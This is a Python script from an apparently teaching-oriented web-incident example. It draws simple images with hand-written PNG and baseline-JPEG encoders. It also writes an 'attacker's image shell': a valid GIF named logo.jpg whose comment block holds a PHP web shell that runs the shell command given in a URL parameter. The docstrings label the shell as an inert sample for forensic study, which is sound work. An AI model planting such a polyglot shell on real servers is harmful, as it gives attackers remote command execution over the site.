"""Write the example site's images: small, valid PNG, JPEG, ICO and GIF files, deterministically.

    python examples/incident/make_images.py

The pictures are simple drawings made here (gradients and shapes), encoded by the minimal PNG and
baseline-JPEG writers below, so the example needs no imaging library. The one exception is
``www/uploads/2026/11/logo.jpg``: the attacker's image shell from the story, a valid 1x1 GIF whose
comment block holds PHP code. It is inert text here and would only do harm if served by a PHP
server configured to run .jpg files, which is exactly what the planted ``.htaccess`` asks for.
"""

from __future__ import annotations

import math
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent

RGB = tuple[int, int, int]
Painter = Callable[[int, int], RGB]


# --- PNG -------------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, paint: Painter, alpha: Callable[[int, int], int] | None = None) -> bytes:
    """An 8-bit RGB (or RGBA when ``alpha`` is given) PNG."""
    rows = bytearray()
    for y in range(height):
        rows.append(0)  # filter: none
        for x in range(width):
            rows.extend(paint(x, y))
            if alpha is not None:
                rows.append(alpha(x, y))
    color_type = 6 if alpha is not None else 2
    ihdr = struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", ihdr)
        + _chunk(b"IDAT", zlib.compress(bytes(rows), 9))
        + _chunk(b"IEND", b"")
    )


def ico_from_png(size: int, png_bytes: bytes) -> bytes:
    """A single-image .ico file holding a PNG (supported by every current browser)."""
    header = struct.pack("<HHH", 0, 1, 1)
    entry = struct.pack("<BBBBHHII", size % 256, size % 256, 0, 0, 1, 32, len(png_bytes), 22)
    return header + entry + png_bytes


# --- baseline JPEG (YCbCr 4:4:4, standard Huffman tables of ITU T.81 Annex K) ----------------

_ZIGZAG = [
    0, 1, 8, 16, 9, 2, 3, 10, 17, 24, 32, 25, 18, 11, 4, 5,
    12, 19, 26, 33, 40, 48, 41, 34, 27, 20, 13, 6, 7, 14, 21, 28,
    35, 42, 49, 56, 57, 50, 43, 36, 29, 22, 15, 23, 30, 37, 44, 51,
    58, 59, 52, 45, 38, 31, 39, 46, 53, 60, 61, 54, 47, 55, 62, 63,
]  # fmt: skip

_Q_LUMA = [
    16, 11, 10, 16, 24, 40, 51, 61, 12, 12, 14, 19, 26, 58, 60, 55,
    14, 13, 16, 24, 40, 57, 69, 56, 14, 17, 22, 29, 51, 87, 80, 62,
    18, 22, 37, 56, 68, 109, 103, 77, 24, 35, 55, 64, 81, 104, 113, 92,
    49, 64, 78, 87, 103, 121, 120, 101, 72, 92, 95, 98, 112, 100, 103, 99,
]  # fmt: skip

_Q_CHROMA = [
    17, 18, 24, 47, 99, 99, 99, 99, 18, 21, 26, 66, 99, 99, 99, 99,
    24, 26, 56, 99, 99, 99, 99, 99, 47, 66, 99, 99, 99, 99, 99, 99,
    99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99,
    99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99, 99,
]  # fmt: skip

_DC_LUMA_BITS = [0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0]
_DC_CHROMA_BITS = [0, 3, 1, 1, 1, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0]
_DC_VALS = list(range(12))
_AC_LUMA_BITS = [0, 2, 1, 3, 3, 2, 4, 3, 5, 5, 4, 4, 0, 0, 1, 0x7D]
_AC_LUMA_VALS = bytes.fromhex(
    "01020300041105122131410613516107227114328191a1082342b1c11552d1f02433627282090a161718191a25262728"
    "292a3435363738393a434445464748494a535455565758595a636465666768696a737475767778797a83848586878889"
    "8a92939495969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2"
    "e3e4e5e6e7e8e9eaf1f2f3f4f5f6f7f8f9fa"
)
_AC_CHROMA_BITS = [0, 2, 1, 2, 4, 4, 3, 4, 7, 5, 4, 4, 0, 1, 2, 0x77]
_AC_CHROMA_VALS = bytes.fromhex(
    "000102031104052131061241510761711322328108144291a1b1c109233352f0156272d10a162434e125f11718191a26"
    "2728292a35363738393a434445464748494a535455565758595a636465666768696a737475767778797a828384858687"
    "88898a92939495969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9da"
    "e2e3e4e5e6e7e8e9eaf2f3f4f5f6f7f8f9fa"
)

_COS = [[math.cos((2 * x + 1) * u * math.pi / 16) for x in range(8)] for u in range(8)]
_C = [1 / math.sqrt(2)] + [1.0] * 7


def _scaled(table: list[int], quality: int) -> list[int]:
    scale = 5000 // quality if quality < 50 else 200 - 2 * quality
    return [min(255, max(1, (q * scale + 50) // 100)) for q in table]


def _codes(bits: list[int], vals: bytes | list[int]) -> dict[int, tuple[int, int]]:
    """Huffman code (value -> (code, length)) from a BITS/HUFFVAL pair."""
    table: dict[int, tuple[int, int]] = {}
    code = 0
    k = 0
    for length in range(1, 17):
        for _ in range(bits[length - 1]):
            table[vals[k]] = (code, length)
            code += 1
            k += 1
        code <<= 1
    return table


class _Bits:
    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def put(self, code: int, length: int) -> None:
        self.acc = (self.acc << length) | code
        self.n += length
        while self.n >= 8:
            self.n -= 8
            byte = (self.acc >> self.n) & 0xFF
            self.out.append(byte)
            if byte == 0xFF:
                self.out.append(0)  # byte stuffing
        self.acc &= (1 << self.n) - 1

    def flush(self) -> bytes:
        if self.n:
            self.put((1 << (8 - self.n)) - 1, 8 - self.n)  # pad with 1-bits
        return bytes(self.out)


def _magnitude(v: int) -> tuple[int, int]:
    """(size category, bits) for a DC difference or AC coefficient."""
    size = abs(v).bit_length()
    bits = v if v >= 0 else v + (1 << size) - 1
    return size, bits


def _fdct(block: list[float]) -> list[float]:
    out = [0.0] * 64
    for v in range(8):
        for u in range(8):
            s = 0.0
            for y in range(8):
                cy = _COS[v][y]
                row = y * 8
                for x in range(8):
                    s += block[row + x] * _COS[u][x] * cy
            out[v * 8 + u] = 0.25 * _C[u] * _C[v] * s
    return out


def jpeg(width: int, height: int, paint: Painter, quality: int = 85) -> bytes:
    """A baseline JFIF JPEG, 3 components, no subsampling."""
    qy, qc = _scaled(_Q_LUMA, quality), _scaled(_Q_CHROMA, quality)
    dc = [_codes(_DC_LUMA_BITS, _DC_VALS), _codes(_DC_CHROMA_BITS, _DC_VALS)]
    ac = [_codes(_AC_LUMA_BITS, _AC_LUMA_VALS), _codes(_AC_CHROMA_BITS, _AC_CHROMA_VALS)]
    pixels = [[paint(x, y) for x in range(width)] for y in range(height)]

    def ycc(x: int, y: int) -> tuple[float, float, float]:
        r, g, b = pixels[min(y, height - 1)][min(x, width - 1)]
        return (
            0.299 * r + 0.587 * g + 0.114 * b - 128,
            -0.168736 * r - 0.331264 * g + 0.5 * b,
            0.5 * r - 0.418688 * g - 0.081312 * b,
        )

    bits = _Bits()
    previous_dc = [0, 0, 0]
    for by in range(0, height, 8):
        for bx in range(0, width, 8):
            samples = [ycc(bx + i % 8, by + i // 8) for i in range(64)]
            for comp in range(3):
                table = qy if comp == 0 else qc
                coeffs = _fdct([s[comp] for s in samples])
                q = [round(coeffs[_ZIGZAG[i]] / table[i]) for i in range(64)]
                kind = 0 if comp == 0 else 1
                size, extra = _magnitude(q[0] - previous_dc[comp])
                previous_dc[comp] = q[0]
                bits.put(*dc[kind][size])
                if size:
                    bits.put(extra, size)
                run = 0
                for k in range(1, 64):
                    if q[k] == 0:
                        run += 1
                        continue
                    while run > 15:
                        bits.put(*ac[kind][0xF0])  # ZRL
                        run -= 16
                    size, extra = _magnitude(q[k])
                    bits.put(*ac[kind][(run << 4) | size])
                    bits.put(extra, size)
                    run = 0
                if run:
                    bits.put(*ac[kind][0x00])  # EOB

    def segment(marker: int, payload: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload

    def dht(tc_th: int, counts: list[int], vals: bytes | list[int]) -> bytes:
        return bytes([tc_th, *counts]) + bytes(vals)

    out = bytearray(b"\xff\xd8")
    out += segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00")
    out += segment(0xDB, bytes([0, *qy]) + bytes([1, *qc]))
    sof = struct.pack(">BHHB", 8, height, width, 3) + bytes([1, 0x11, 0, 2, 0x11, 1, 3, 0x11, 1])
    out += segment(0xC0, sof)
    out += segment(
        0xC4,
        dht(0x00, _DC_LUMA_BITS, _DC_VALS)
        + dht(0x10, _AC_LUMA_BITS, _AC_LUMA_VALS)
        + dht(0x01, _DC_CHROMA_BITS, _DC_VALS)
        + dht(0x11, _AC_CHROMA_BITS, _AC_CHROMA_VALS),
    )
    out += segment(0xDA, bytes([3, 1, 0x00, 2, 0x11, 3, 0x11, 0, 63, 0]))
    out += bits.flush()
    out += b"\xff\xd9"
    return bytes(out)


# --- the pictures ----------------------------------------------------------------------------


def _mix(a: RGB, b: RGB, t: float) -> RGB:
    t = max(0.0, min(1.0, t))
    return (
        round(a[0] + (b[0] - a[0]) * t),
        round(a[1] + (b[1] - a[1]) * t),
        round(a[2] + (b[2] - a[2]) * t),
    )


def _loaves(width: int, height: int, sky: RGB, table: RGB, crust: RGB, count: int) -> Painter:
    """A counter with ``count`` loaves on it: ellipses shaded from crust to crumb."""
    centers = [((i + 0.5) * width / count, height * 0.62) for i in range(count)]
    rx, ry = width / count * 0.42, height * 0.2

    def paint(x: int, y: int) -> RGB:
        for cx, cy in centers:
            d = ((x - cx) / rx) ** 2 + ((y - cy) / ry) ** 2
            if d <= 1.0:
                return _mix((238, 205, 150), crust, d**0.5)
        if y > height * 0.7:
            return _mix(table, (70, 45, 30), (y - height * 0.7) / (height * 0.3))
        return _mix(sky, (255, 250, 240), y / height)

    return paint


def _people(width: int, height: int, count: int) -> Painter:
    """A row of simple figures (head + body) in front of a brick wall."""
    shirts = [(180, 60, 40), (40, 90, 160), (60, 140, 80), (200, 160, 40), (120, 70, 150)]

    def paint(x: int, y: int) -> RGB:
        slot = int(x * count / width)
        cx = (slot + 0.5) * width / count
        head_y, head_r = height * 0.35, height * 0.11
        if (x - cx) ** 2 + (y - head_y) ** 2 <= head_r**2:
            return (232, 190, 160)
        if abs(x - cx) < width / count * 0.3 and head_y + head_r < y:
            return shirts[slot % len(shirts)]
        brick = (y // 10 % 2 == 0 and x % 24 == 0) or (y // 10 % 2 == 1 and x % 24 == 12) or y % 10 == 0
        return (190, 180, 170) if brick else (150, 70, 50)

    return paint


def _room(width: int, height: int) -> Painter:
    """A window onto the harbour with a table and two cups."""

    def paint(x: int, y: int) -> RGB:
        if width * 0.25 < x < width * 0.75 and height * 0.1 < y < height * 0.55:
            if y > height * 0.4:
                return _mix((40, 90, 140), (20, 50, 90), (y - height * 0.4) / (height * 0.15))
            return _mix((150, 200, 235), (220, 235, 245), (y - height * 0.1) / (height * 0.3))
        for cx in (width * 0.4, width * 0.6):
            if abs(x - cx) < width * 0.04 and height * 0.62 < y < height * 0.72:
                return (245, 245, 240)
        if y > height * 0.72:
            return (120, 80, 50)
        return _mix((230, 220, 200), (200, 185, 160), y / height)

    return paint


def _party(width: int, height: int) -> Painter:
    """Bunting and a cake."""

    def paint(x: int, y: int) -> RGB:
        colours = [(220, 60, 60), (250, 200, 50), (60, 160, 220), (90, 190, 100)]
        flag = x // 20
        top = 8 + 4 * math.sin(x / 18)
        if top < y < top + 18 - abs((x % 20) - 10) * 1.6:
            return colours[flag % len(colours)]
        if abs(x - width / 2) < width * 0.22 and height * 0.55 < y < height * 0.85:
            return (250, 240, 230) if (y // 6) % 3 else (200, 120, 160)
        if abs(x - width / 2) < 2 and height * 0.42 < y < height * 0.55:
            return (255, 210, 80)
        return _mix((60, 40, 80), (120, 80, 120), y / height)

    return paint


def _logo(size: int) -> tuple[Painter, Callable[[int, int], int]]:
    """A round loaf with three scores, on a transparent background."""
    c = (size - 1) / 2

    def paint(x: int, y: int) -> RGB:
        d = math.hypot(x - c, y - c) / (size / 2)
        score = any(abs((x - c) - (y - c) * 0.3 - k * size * 0.18) < size * 0.03 for k in (-1, 0, 1))
        return (250, 225, 170) if score and d < 0.8 else _mix((215, 150, 80), (140, 80, 35), d)

    def alpha(x: int, y: int) -> int:
        d = math.hypot(x - c, y - c)
        return 255 if d <= size / 2 - 1 else (128 if d <= size / 2 else 0)

    return paint, alpha


def image_shell_gif() -> bytes:
    """The attacker's ``logo.jpg``: a valid 1x1 GIF89a whose comment extension holds PHP code.

    Inert sample for the example incident (see README.md): it only runs on a server that hands
    .jpg files to PHP, which the planted uploads/2026/11/.htaccess does.
    """
    code = b"<?php if(isset($_GET['c'])){echo '<pre>';system($_GET['c']);echo '</pre>';} ?>"
    assert len(code) < 256
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0)  # 1x1, global colour table of 2 entries
        + b"\xff\xff\xff\x00\x00\x00"
        + b"\x21\xfe"  # comment extension
        + bytes([len(code)])
        + code
        + b"\x00"
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, 1, 1, 0)  # image descriptor
        + b"\x02\x02\x44\x01\x00"  # LZW minimum code size 2, one data sub-block, terminator
        + b"\x3b"  # trailer
    )


def benign_images() -> dict[str, bytes]:
    """Relative path (under the web root) -> bytes, for the images the site owner put there."""
    logo_paint, logo_alpha = _logo(48)
    fav_paint, fav_alpha = _logo(32)
    return {
        "assets/images/logo.png": png(48, 48, logo_paint, logo_alpha),
        "favicon.ico": ico_from_png(32, png(32, 32, fav_paint, fav_alpha)),
        "assets/images/hero.jpg": jpeg(
            320, 120, _loaves(320, 120, (250, 220, 180), (150, 100, 60), (150, 80, 30), 5)
        ),
        "uploads/2026/10/autumn-sale.jpg": jpeg(
            160, 120, _loaves(160, 120, (240, 170, 90), (110, 70, 40), (120, 60, 20), 3), 80
        ),
        "uploads/2026/11/team.jpg": jpeg(200, 120, _people(200, 120, 5), 82),
        "uploads/2026/11/office.png": png(120, 90, _room(120, 90)),
        "uploads/2026/11/launch-party.jpg": jpeg(160, 120, _party(160, 120), 80),
    }


#: Added to the live site after the backup was taken (the owner's legitimate upload of 24 Nov).
NOT_IN_BACKUP = {"uploads/2026/11/launch-party.jpg"}


def main() -> None:
    for rel, data in benign_images().items():
        for tree in ("www", "backup"):
            if tree == "backup" and rel in NOT_IN_BACKUP:
                continue
            target = HERE / tree / rel
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
    (HERE / "www/uploads/2026/11/logo.jpg").write_bytes(image_shell_gif())


if __name__ == "__main__":
    main()
